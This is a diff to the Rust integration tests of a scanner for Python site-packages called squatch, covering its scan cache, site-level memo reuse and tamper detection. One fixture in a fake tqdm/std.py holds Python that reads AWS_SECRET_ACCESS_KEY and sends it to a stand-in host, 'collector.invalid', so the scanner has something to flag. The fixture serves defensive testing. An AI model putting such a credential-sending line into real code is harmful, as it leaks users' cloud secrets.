@@ -42,6 +42,16 @@ fn squatch(root: &Path, state: &Path, extra: &[&str], sql: &str) -> Run {
 
 /// (loaded, hits, misses) from the debug line the cache logs at the end.
 fn stats(run: &Run) -> (u64, u64, u64) {
+    let n = all_stats(run);
+    (n[0], n[1], n[2])
+}
+
+/// Site directories whose whole scan was reused (the line's fourth figure).
+fn sites_reused(run: &Run) -> u64 {
+    all_stats(run)[3]
+}
+
+fn all_stats(run: &Run) -> Vec<u64> {
     let line = run
         .stderr
         .lines()
@@ -56,7 +66,7 @@ fn stats(run: &Run) -> (u64, u64, u64) {
         .filter(|s| !s.is_empty())
         .map(|s| s.parse().unwrap())
         .collect();
-    (nums[0], nums[1], nums[2])
+    nums
 }
 
 fn rows(run: &Run) -> Vec<BTreeMap<String, String>> {
@@ -160,9 +170,15 @@ fn second_process_hits_and_a_restored_mtime_tamper_is_rescanned() {
     let second = squatch(&root, state.path(), &[], FINDINGS);
     assert_eq!(second.stdout, first.stdout);
     let (loaded, hits, misses) = stats(&second);
-    assert!(loaded >= 12, "{loaded}");
+    assert!(loaded >= 1, "{loaded}");
     assert_eq!(misses, 0, "nothing rescanned: {}", second.stderr);
-    assert!(hits >= 12);
+    // Each file from the cache, or (when the fixture was already a second
+    // old at the first run) the whole site.
+    assert!(
+        hits >= 12 || sites_reused(&second) == 1,
+        "{}",
+        second.stderr
+    );
 
     // Provenance: digests are kept too.
     let p1 = squatch(&root, state.path(), &[], PROVENANCE);
@@ -200,19 +216,31 @@ fn corrupt_and_foreign_caches_are_discarded() {
     let state = tempfile::tempdir().unwrap();
     let root = fx.fh.root();
     let first = squatch(root, state.path(), &[], FINDINGS);
+    // The per-file scans (the site memos, `.sites.json`, are removed before
+    // each run below so that the scans are consulted).
     let file = cache_files(state.path()).pop().unwrap();
+    assert!(!file.to_string_lossy().ends_with(".sites.json"));
     let good = std::fs::read_to_string(&file).unwrap();
+    let drop_memos = || {
+        for f in cache_files(state.path()) {
+            if f.to_string_lossy().ends_with(".sites.json") {
+                std::fs::remove_file(f).unwrap();
+            }
+        }
+    };
     for bad in [
         "{\"format\":1,".to_string(),
         good.replacen(env!("CARGO_PKG_VERSION"), "0.0.0-older", 1),
         good.replace("tqdm/std.py\"", "tqdm/std.py\"]]]"),
     ] {
         std::fs::write(&file, bad).unwrap();
+        drop_memos();
         let run = squatch(root, state.path(), &[], FINDINGS);
         assert_eq!(run.stdout, first.stdout);
         assert_eq!(stats(&run).0, 0, "nothing loaded from a bad cache");
         assert!(run.stderr.contains("starting empty"), "{}", run.stderr);
         // And it was rewritten whole: the next run hits.
+        drop_memos();
         let again = squatch(root, state.path(), &[], FINDINGS);
         assert_eq!(stats(&again).2, 0, "{}", again.stderr);
     }
@@ -241,4 +269,108 @@ fn no_cache_and_unusable_state_dirs_write_nothing() {
     // An unwritable state dir: the query still answers.
     let run = squatch(&root, Path::new("/proc/self/squatch-none"), &[], FINDINGS);
     assert!(run.stderr.contains("not written"), "{}", run.stderr);
+}
+
+/// Overwrites `real` with `from` replaced by `to` (same length), its mtime
+/// put back.
+fn rewrite_keeping_mtime(real: &Path, from: &str, to: &str) {
+    assert_eq!(from.len(), to.len());
+    let text = std::fs::read_to_string(real).unwrap();
+    assert!(text.contains(from), "{text}");
+    tamper_keeping_mtime(real, text.replacen(from, to, 1).as_bytes());
+}
+
+#[test]
+fn a_site_scan_is_reused_whole_until_metadata_or_record_changes_even_with_mtime_restored() {
+    let fh = FakeHost::new();
+    let site = fh.venv("/opt/app/venv", "3.12", false);
+    let dirty = "import os, urllib.request\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n";
+    let tqdm = fh
+        .dist(&site, "tqdm", "4.66.0")
+        .file("tqdm/__init__.py", "from .std import tqdm\n")
+        .file("tqdm/std.py", dirty)
+        .write();
+    let pkg0 = fh
+        .dist(&site, "pkg0", "1.0")
+        .file("pkg0/__init__.py", "X = 0\n")
+        .file("pkg0/core.py", "def f():\n    return 1\n")
+        .write();
+    let root = fh.root().to_path_buf();
+    let state = tempfile::tempdir().unwrap();
+    let q = "SELECT path, rule_id, package FROM python_install_findings WHERE rule_id != ''";
+    // A site's scan is kept only when nothing it read changed in the second
+    // before the scan started (it could have changed while it was read).
+    let settle = || std::thread::sleep(std::time::Duration::from_millis(1100));
+    settle();
+
+    let first = squatch(&root, state.path(), &[], q);
+    let found = rows(&first);
+    assert!(
+        found
+            .iter()
+            .any(|r| r["path"].ends_with("tqdm/std.py") && r["package"] == "tqdm"),
+        "{}",
+        first.stdout
+    );
+    assert_eq!(sites_reused(&first), 0);
+    assert!(cache_files(state.path())
+        .iter()
+        .any(|f| f.to_string_lossy().ends_with(".sites.json")));
+
+    let second = squatch(&root, state.path(), &[], q);
+    assert_eq!(second.stdout, first.stdout);
+    assert_eq!(sites_reused(&second), 1, "{}", second.stderr);
+    assert_eq!(stats(&second).2, 0, "nothing scanned: {}", second.stderr);
+
+    // METADATA rewritten in place (another project name), mtime put back:
+    // read again, not served from the memo.
+    rewrite_keeping_mtime(&fh.real(&tqdm.meta("METADATA")), "Name: tqdm", "Name: tqdx");
+    let third = squatch(&root, state.path(), &[], q);
+    assert_eq!(sites_reused(&third), 0, "{}", third.stderr);
+    let found = rows(&third);
+    assert!(
+        found
+            .iter()
+            .any(|r| r["path"].ends_with("tqdm/std.py") && r["package"] == "tqdx"),
+        "METADATA not re-read: {}",
+        third.stdout
+    );
+
+    settle();
+    let fourth = squatch(&root, state.path(), &[], q);
+    assert_eq!(fourth.stdout, third.stdout);
+    let fifth = squatch(&root, state.path(), &[], q);
+    assert_eq!(sites_reused(&fifth), 1, "{}", fifth.stderr);
+
+    // RECORD rewritten in place (core.py no longer listed), mtime put back:
+    // re-read, and core.py is now a file no RECORD lists.
+    rewrite_keeping_mtime(
+        &fh.real(&pkg0.meta("RECORD")),
+        "pkg0/core.py",
+        "pkg0/corx.py",
+    );
+    let sixth = squatch(&root, state.path(), &[], q);
+    assert_eq!(sites_reused(&sixth), 0, "{}", sixth.stderr);
+    assert!(
+        rows(&sixth)
+            .iter()
+            .any(|r| r["path"].ends_with("pkg0/core.py") && r["rule_id"] == "unrecorded-file"),
+        "RECORD not re-read: {}",
+        sixth.stdout
+    );
+    // A file added to a package directory is seen too.
+    settle();
+    squatch(&root, state.path(), &[], q);
+    fh.write(site.join("pkg0/dropped.py"), "x = 1\n");
+    let seventh = squatch(&root, state.path(), &[], q);
+    assert!(
+        rows(&seventh)
+            .iter()
+            .any(|r| r["path"].ends_with("pkg0/dropped.py") && r["rule_id"] == "unrecorded-file"),
+        "{}",
+        seventh.stdout
+    );
+    // --no-cache gives the same rows.
+    let none = squatch(&root, state.path(), &["--no-cache"], q);
+    assert_eq!(none.stdout, seventh.stdout);
 }
